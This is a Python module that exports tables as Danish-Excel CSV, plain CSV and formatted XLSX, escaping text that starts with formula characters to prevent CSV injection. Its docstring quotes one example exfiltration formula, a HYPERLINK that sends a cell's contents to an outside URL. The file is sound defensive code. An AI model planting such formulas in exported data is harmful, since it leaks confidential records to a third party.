"""File formats for every table a user downloads: CSV for Danish Excel, plain CSV and XLSX.

Every CSV and XLSX the product writes (pages and command line) goes through these writers, so
one helper, :func:`neutralise`, keeps text that a spreadsheet would run as a formula inert
(OWASP "CSV injection"): a department named ``=HYPERLINK("http://…?v="&I2;"grå")`` must not be
able to send cells of the confidential list away when someone clicks it.
"""

from __future__ import annotations

import io

import pandas as pd

#: Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value: object) -> object:
    """Text starting with a formula trigger gets a leading apostrophe; anything else is unchanged.

    Numbers stay numbers (a negative float is not text and is written as a number). The
    apostrophe is the spreadsheet convention for "this is text"; importers strip it again
    (:func:`restore_neutralised`), so an exported register re-imports unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def restore_neutralised(value: object) -> object:
    """The inverse of :func:`neutralise`, for files coming back in."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def neutralised(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` with every text cell and column name passed through :func:`neutralise`."""
    out = table.copy()
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if column.dtype == object or isinstance(column.dtype, pd.StringDtype):
            out.isetitem(i, column.map(neutralise))
    return out


def to_csv_danish(table: pd.DataFrame, *, float_format: str | None = None) -> bytes:
    """CSV as Danish Excel opens it: semicolons, decimal comma, UTF-8 with BOM, CRLF."""
    text = neutralised(table).to_csv(
        sep=";", decimal=",", index=False, lineterminator="\r\n", float_format=float_format
    )
    return text.encode("utf-8-sig")


def to_csv_plain(table: pd.DataFrame) -> bytes:
    """Plain CSV: commas, decimal point, UTF-8 without BOM."""
    return neutralised(table).to_csv(index=False).encode("utf-8")


#: Widest column in an XLSX sheet (Excel character units); longer text wraps.
XLSX_MAX_WIDTH = 60


def _text_colour(fill: str) -> str:
    """Black or white text, whichever reads better on ``fill`` (``#rrggbb``; WCAG relative luminance)."""
    channels = [int(fill[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    luminance = 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
    return "000000" if luminance > 0.179 else "FFFFFF"


def to_xlsx(sheets: dict[str, pd.DataFrame], *, fills: dict[str, dict[str, str]] | None = None) -> bytes:
    """An XLSX workbook with one sheet per entry, finished for the reader who opens it.

    Every sheet has a bold, frozen header row with an autofilter, and column widths fitted to the
    content (at most :data:`XLSX_MAX_WIDTH`; longer text wraps). ``fills`` colours cells by value:
    column name → {cell text → ``#rrggbb``}, e.g. ``{"Farve": {"Rød": "#b2182b", …}}``, with
    black or white text for contrast. Every cell goes through :func:`neutralise` first.
    """
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    fills = fills or {}
    bold = Font(bold=True)
    wrap = Alignment(wrap_text=True, vertical="top")
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, table in sheets.items():
            table = neutralised(table)
            title = name[:31]
            table.to_excel(writer, sheet_name=title, index=False)
            sheet = writer.sheets[title]
            sheet.freeze_panes = "A2"
            if len(table.columns):
                sheet.auto_filter.ref = f"A1:{get_column_letter(len(table.columns))}{len(table) + 1}"
            for i, column in enumerate(table.columns, start=1):
                letter = get_column_letter(i)
                sheet.cell(row=1, column=i).font = bold
                texts = table[column].head(2000).map(lambda v: "" if pd.isna(v) else str(v))
                widest = max([len(str(column)) + 3, *texts.str.len().tolist()])  # + 3: the filter button
                sheet.column_dimensions[letter].width = min(XLSX_MAX_WIDTH, widest + 2)
                if widest + 2 > XLSX_MAX_WIDTH:
                    for row in range(2, len(table) + 2):
                        sheet.cell(row=row, column=i).alignment = wrap
                colours = fills.get(str(column))
                if colours:
                    styles = {
                        text: (PatternFill("solid", fgColor=hex_[1:].upper()), Font(color=_text_colour(hex_)))
                        for text, hex_ in colours.items()
                    }
                    for row, value in enumerate(table[column], start=2):
                        style = styles.get(value)
                        if style is not None:
                            cell = sheet.cell(row=row, column=i)
                            cell.fill, cell.font = style
    return buffer.getvalue()
